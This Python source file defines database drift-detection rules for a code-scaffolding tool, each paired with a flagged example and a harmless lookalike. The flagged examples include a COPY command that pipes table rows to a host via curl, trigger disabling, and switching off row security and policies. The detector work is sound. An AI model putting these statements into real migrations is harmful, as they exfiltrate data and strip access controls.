"""Rules about what statements and functions do, and about what a table keeps."""

from __future__ import annotations

from typing import Final

from scaffold.drift.database.orders import GUARD, PARTS, TEXT, Unjudged
from scaffold.drift.database.rule import SqlRule
from scaffold.drift.database.rules_rows import FILES, NEXT, TABLE, TABLES
from scaffold.drift.rule import Example
from scaffold.drift.verdict import Names
from scaffold.drift.witness import Says, Untried

FUNCTION: Final = """\
create or replace function note_is_kept() returns trigger language plpgsql as $$
begin
  raise exception 'notes are kept';
end $$;
create trigger kept before delete on note for each row execute function note_is_kept();
"""
GUARDED: Final = {**FILES, NEXT: FUNCTION}
SEEDED: Final = {
    **FILES,
    NEXT: "insert into member_role (name, kind) values ('viewer', 'human');\n",
}

RULES: Final[tuple[SqlRule, ...]] = (
    trigger := SqlRule(
        id="SCF514",
        shows=Says(
            "what the trigger {key} refused is possible now",
            "What it refused is up to its function.",
        ),
        name="trigger-gone",
        severity="high",
        controls=("DATA-2",),
        layer="database",
        what="The triggers of each table: when they fire, what they run, and whether they do.",
        why="Triggers keep evidence, the last administrator and the roles that there are: without "
        "them rows can be changed that nobody may change.",
        remedy="Leave the trigger, and enabled.",
        example=Example(
            GUARDED,
            change={NEXT: FUNCTION + "alter table note disable trigger kept;\n"},
            dual={NEXT: FUNCTION.replace("create trigger", "create or replace trigger")},
        ),
        order=GUARD,
    ),
    session := SqlRule(
        id="SCF515",
        shows=Untried(
            "It holds while a script or a function runs; what these do is judged by itself."
        ),
        name="session-setting",
        severity="critical",
        controls=("AZ-3",),
        layer="database",
        what="row_security, session_replication_role, role, session_authorization, search_path and "
        "standard_conforming_strings, where a script or a function sets them.",
        why="They switch off policies or triggers, act as another role, or have names mean other "
        "things.",
        remedy="Leave them: the runner of the migrations sets what it needs.",
        example=Example(
            FILES,
            change={NEXT: "set session_replication_role = replica;\n"},
            dual={NEXT: "set lock_timeout = '2s';\n-- set session_replication_role = replica;\n"},
        ),
    ),
    dynamic := SqlRule(
        id="SCF516",
        shows=Untried("The text is put together while it runs: what it does cannot be read."),
        name="text-that-is-run",
        severity="high",
        controls=("GEN-3",),
        layer="database",
        what="Blocks (DO) that run text which they put together, and functions that change "
        "tables, roles or rights when they are called.",
        why="What they do cannot be read here, or happens when nobody looks.",
        remedy="Write the statement itself into the migration.",
        example=Example(
            FILES,
            change={NEXT: "do $$ begin execute 'drop policy x' || ' on note'; end $$;\n"},
            dual={NEXT: "do $$ begin perform 1; end $$;\n"},
        ),
    ),
    text := SqlRule(
        id="SCF517",
        shows=Untried(
            "Another text of a function may do anything: which call shows it cannot be told."
        ),
        name="stored-text-changed",
        severity="critical",
        controls=("AZ-1", "AZ-3", "GEN-3"),
        layer="database",
        what="The text of each function and view, without comments and layout.",
        why="Permissions, conditions and the tenant are decided there.",
        remedy="Say in scaffold.yaml what was to change, and run scaffold generate.",
        example=Example(
            GUARDED,
            change={NEXT: FUNCTION.replace("raise exception 'notes are kept'", "return old")},
            dual={NEXT: FUNCTION.replace("begin\n", "BEGIN -- always\n")},
        ),
        order=TEXT,
    ),
    parts := SqlRule(
        id="SCF518",
        shows=Says(
            "{key} keeps less now: {now}",
            "Which row is possible then is up to the constraint, whose name alone is known.",
        ),
        name="constraint-gone",
        severity="high",
        controls=("AZ-3", "API-1"),
        layer="database",
        what="The columns, keys, references and checks of each table.",
        why="References that carry the tenant, keys and checks hold whatever a statement does.",
        remedy="Say in scaffold.yaml what was to change; the migration follows.",
        example=Example(
            FILES,
            change={TABLES: TABLE.replace(",\n  primary key (tenant_id, id)", "")},
            dual={TABLES: TABLE.replace("body text", "remark text, body  text")},
        ),
        order=PARTS,
    ),
    rows := SqlRule(
        id="SCF519",
        shows=Says(
            "{key} has {now} now", "The value tells how many rows there are, and a digest of them."
        ),
        name="row-of-every-database",
        severity="high",
        controls=("AZ-1",),
        layer="database",
        what="Rows that the files insert, such as the roles that members may hold.",
        why="A further row is a role or a right that the spec does not have.",
        remedy="Say in scaffold.yaml which roles there are.",
        example=Example(
            SEEDED,
            change={
                NEXT: "insert into member_role (name, kind) values\n"
                "  ('viewer', 'human'), ('root', 'human');\n"
            },
            dual={
                NEXT: "insert into member_role (name, kind)\n  values ('viewer', 'human')\n"
                "  on conflict do nothing;\n"
            },
        ),
        order=Names(empty=("none",)),
    ),
    unread := SqlRule(
        id="SCF520",
        shows=Untried("Nobody can read it."),
        name="sql-cannot-be-judged",
        severity="high",
        controls=("GEN-3",),
        layer="database",
        what="SQL that cannot be read: quotations that do not end, commands of psql, files that "
        "are no UTF-8, are too large or are no regular files.",
        why="Nobody knows what it permits.",
        remedy="Write plain SQL in UTF-8, in a regular file of a few megabytes at most.",
        example=Example(
            FILES,
            change={NEXT: "select 'that does not end;\n"},
            dual={NEXT: "select 'it''s fine', E'\\'', $a$ ' $a$;\n"},
        ),
        order=Unjudged(),
    ),
    outside := SqlRule(
        id="SCF521",
        shows=Untried("It reaches out of the database, where no test of it should."),
        name="reaches-out-of-the-database",
        severity="high",
        controls=("AZ-3", "OPS-1"),
        layer="database",
        what="Extensions, servers, languages, COPY with files or programs, functions that read "
        "files or run text elsewhere, and writes to the catalog or the ledger of the migrations.",
        why="They run code or move rows where no policy holds, or have policies pass for others.",
        remedy="Do it in an action of the service, or have it approved.",
        example=Example(
            FILES,
            change={NEXT: "copy note to program 'curl -T - example.com';\n"},
            dual={NEXT: "comment on table note is 'copy note to program x';\n"},
        ),
    ),
    rule := SqlRule(
        id="SCF522",
        shows=Untried("What it does in place of a statement is up to its text."),
        name="statement-rewritten",
        severity="high",
        controls=("DATA-2",),
        layer="database",
        what="Rules and event triggers.",
        why="They replace what a statement does, or run at every change of the schema.",
        remedy="Leave them out; a trigger of a table does what one row needs.",
        example=Example(
            FILES,
            change={NEXT: "create rule quiet as on delete to note do instead nothing;\n"},
            dual={NEXT: "select 'create rule quiet as on delete to note do instead nothing';\n"},
        ),
    ),
    binding := SqlRule(
        id="SCF523",
        shows=Says("{key} now", "Whose rows are reached depends on who calls it, and with what."),
        name="tenant-bound-elsewhere",
        severity="critical",
        controls=("AZ-3",),
        layer="database",
        what="Functions and scripts that bind the tenant, the member or their roles.",
        why="Policies believe these settings: who binds them decides whose rows are reached.",
        remedy="Leave it to the function that begins every operation.",
        example=Example(
            FILES,
            change={
                NEXT: "create function as_(t uuid) returns text language sql as\n"
                "$$ select set_config('app.tenant_id', t::text, true) $$;\n"
            },
            dual={
                NEXT: "create function who() returns text language sql as\n"
                "$$ select current_setting('app.tenant_id', true) $$;\n"
            },
        ),
    ),
)
